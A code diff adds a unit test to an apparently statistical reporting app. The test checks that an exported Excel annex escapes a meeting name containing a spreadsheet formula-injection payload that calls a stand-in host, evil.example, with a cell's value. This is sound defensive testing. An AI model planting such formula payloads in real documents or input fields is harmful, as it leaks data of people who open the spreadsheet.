@@ -114,3 +114,25 @@ def test_suppression_within_a_withheld_region_withholds_every_member_state():
 def test_a_cell_published_elsewhere_is_not_hidden_the_total_is():
     cells, total = suppress_counts({"paired": 500, "unpaired": 3}, published={"paired"})
     assert (str(cells["paired"]), str(cells["unpaired"]), str(total)) == ("500", "<10", "x")
+
+
+def test_the_annex_never_hands_a_spreadsheet_a_formula(known_data, make_report):
+    formula = '=HYPERLINK("https://evil.example/?"&B1,"Open")'
+    report = make_report()
+    report.meeting_name = formula
+    report.save(update_fields=["meeting_name"])
+    report_generate(report_id=report.pk, worker="test@host")
+    report.refresh_from_db()
+
+    about = load_workbook(io.BytesIO(annex_xlsx(report)))["report"]
+    cells = {row[0].value: row[1] for row in about.iter_rows()}
+    meeting = cells["Meeting"]
+    assert meeting.data_type == "s"
+    assert meeting.value == "'" + formula
+    every_cell = [
+        cell
+        for sheet in load_workbook(io.BytesIO(annex_xlsx(report))).worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+    ]
+    assert not any(cell.data_type == "f" for cell in every_cell)
